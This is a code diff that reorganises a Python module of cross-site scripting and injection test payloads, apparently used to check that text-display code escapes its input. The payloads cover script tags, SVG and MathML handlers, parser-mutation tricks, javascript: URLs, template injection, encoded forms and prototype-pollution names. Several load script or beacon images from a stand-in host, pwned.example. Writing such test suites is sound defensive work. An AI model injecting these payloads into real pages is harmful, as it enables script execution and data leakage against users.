@@ -1,12 +1,11 @@
-"""What somebody writes who wants a page to do his bidding: for every place that shows words."""
+"""Texts that try to become markup or code, for every place that shows text."""
 
-__all__ = ["PAYLOADS", "harmless"]
-
-# What each tries, if it were taken for markup or code, is to set this.
+# Each tries to set this.
 _DO = "window.pwned=1"
 _SAY = "alert(1)"
 
-_TAGS = (
+PAYLOADS: tuple[str, ...] = (
+    # tags
     f"<script>{_DO}</script>",
     f"</script><script>{_DO}</script>",
     f"<SCRIPT SRC=//pwned.example/x.js></SCRIPT><ScRiPt>{_SAY}</sCrIpT>",
@@ -33,8 +32,7 @@ _TAGS = (
     "<!-- --!><img src=x onerror=alert(1)> -->",
     "<![CDATA[<img src=x onerror=alert(1)>]]>",
     f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{_DO}</script></x>",
-)
-_FOREIGN = (
+    # SVG and MathML
     f"<svg onload={_DO}>",
     f"<svg><script>{_DO}</script></svg>",
     f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
@@ -44,8 +42,7 @@ _FOREIGN = (
     f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}></style></mglyph></table>",
     f"<math href='javascript:{_DO}'>x</math>",
     f"<math><annotation-xml encoding='text/html'><img src=x onerror={_DO}></annotation-xml></math>",
-)
-_MUTATING = (
+    # markup that parsers change
     f"<noscript><p title='</noscript><img src=x onerror={_DO}>'></noscript>",
     f"<svg></p><style><a id='</style><img src=x onerror={_DO}>'>",
     f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_DO}>",
@@ -53,15 +50,13 @@ _MUTATING = (
     f"<textarea></textarea><img src=x onerror={_DO}>",
     f"<title></title><img src=x onerror={_DO}>",
     f"<xmp></xmp><img src=x onerror={_DO}>",
-)
-_ATTRIBUTES = (
+    # attributes
     f'" onmouseover="{_DO}" x="',
     f"' onfocus='{_DO}' autofocus '",
     f"x style=animation-name:x onanimationstart={_DO}",
     '" style="position:fixed;inset:0;background:url(//pwned.example/b)" x="',
     "` onclick=alert(1) `",
-)
-_URLS = (
+    # URLs
     f"javascript:{_DO}",
     f"JaVaScRiPt:{_DO}//",
     f"java\tscript:{_DO}",
@@ -71,8 +66,7 @@ _URLS = (
     "//pwned.example/%2f..",
     f"#/r/../../x?{_DO}",
     "[click](javascript:alert(1)) ![x](//pwned.example/leak.png)",
-)
-_TEMPLATES = (
+    # templates and strings
     f"{{{{constructor.constructor('{_DO}')()}}}}",
     f"${{{_DO}}}",
     f"<%= {_DO} %>",
@@ -83,30 +77,15 @@ _TEMPLATES = (
     f"*/{_DO}/*",
     "];alert(1);[",
     ")};alert(1);({",
-)
-_STYLES = (
+    # styles
     "expression(alert(1))",
     "}*{background:url(//pwned.example/c)}",
     "url('javascript:alert(1)')",
-)
-_NAMES = (
-    "__proto__",
-    "constructor",
-    "prototype",
-    "toString",
-    "hasOwnProperty",
-    "innerHTML",
-    "onclick",
-    "style",
-    "class",
-    "shadowRoot",
-    "getElementById",
-    "attributes",
-    "adoptedStyleSheets",
-    "conversation",
-    "then",
-)
-_ENCODED = (
+    # names of properties
+    *("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "innerHTML"),
+    *("onclick", "style", "class", "shadowRoot", "getElementById"),
+    *("attributes", "adoptedStyleSheets", "conversation", "then"),
+    # encoded
     "&lt;img src=x onerror=alert(1)&gt;",
     "&#60;script&#62;alert(1)&#60;/script&#62;",
     "%3Cscript%3Ealert(1)%3C/script%3E",
@@ -115,8 +94,7 @@ _ENCODED = (
     "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-)
-_CHARACTERS = (
+    # characters
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
     "<\x00script>alert(1)</\x00script>",
     "<scr\u200bipt>alert(1)</scr\u200bipt>",
@@ -131,8 +109,7 @@ _CHARACTERS = (
     "\u27e6ESC\u27e7 is what it looks like, \u27e6U+202E\u27e7 too",
     "\ufdfd" * 8 + "\U0001f468\u200d\U0001f469\u200d\U0001f467",
     "\u0130\u0131\u017f\u212a cases that change length: \u00df\ufb03",
-)
-_LARGE = (
+    # large
     f"<img src=x onerror={_DO}>" * 300,
     "A" * 5_000,
     "<" * 2_000,
@@ -140,24 +117,8 @@ _LARGE = (
     "[" * 400 + "{" * 400,
 )
 
-PAYLOADS: tuple[str, ...] = (
-    *_TAGS,
-    *_FOREIGN,
-    *_MUTATING,
-    *_ATTRIBUTES,
-    *_URLS,
-    *_TEMPLATES,
-    *_STYLES,
-    *_NAMES,
-    *_ENCODED,
-    *_CHARACTERS,
-    *_LARGE,
-)
-"""All of them: each another way in."""
-
 
 def harmless(payload: str, number: int) -> str:
-    """Give plain words of the same shape: as long, with its lines and tabs, unlike any other."""
+    """Return plain text of the same shape: as long, with the same lines and tabs, and unique."""
     name = f"w{number}"
-    rest = "".join(one if one in "\n\t" else "x" for one in payload[len(name) :])
-    return name + rest
+    return name + "".join(one if one in "\n\t" else "x" for one in payload[len(name) :])
